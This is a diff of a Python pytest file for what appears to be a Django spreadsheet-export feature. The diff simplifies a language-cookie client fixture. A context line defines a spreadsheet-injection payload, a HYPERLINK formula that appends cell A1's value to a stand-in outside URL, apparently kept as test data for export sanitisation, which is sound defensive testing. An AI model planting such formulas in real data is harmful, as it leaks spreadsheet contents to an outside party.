@@ -6,7 +6,6 @@ from datetime import timedelta
 from decimal import Decimal
 
 import pytest
-from django.conf import settings
 from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
@@ -20,13 +19,8 @@ EVIL = '=HYPERLINK("https://example.invalid/?leak="&A1,"Klik")'
 
 
 @pytest.fixture
-def client_for(client_for):
-    def make(person):
-        client = client_for(person)
-        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
-        return client
-
-    return make
+def client_for(english_client_for):
+    return english_client_for
 
 
 @pytest.fixture
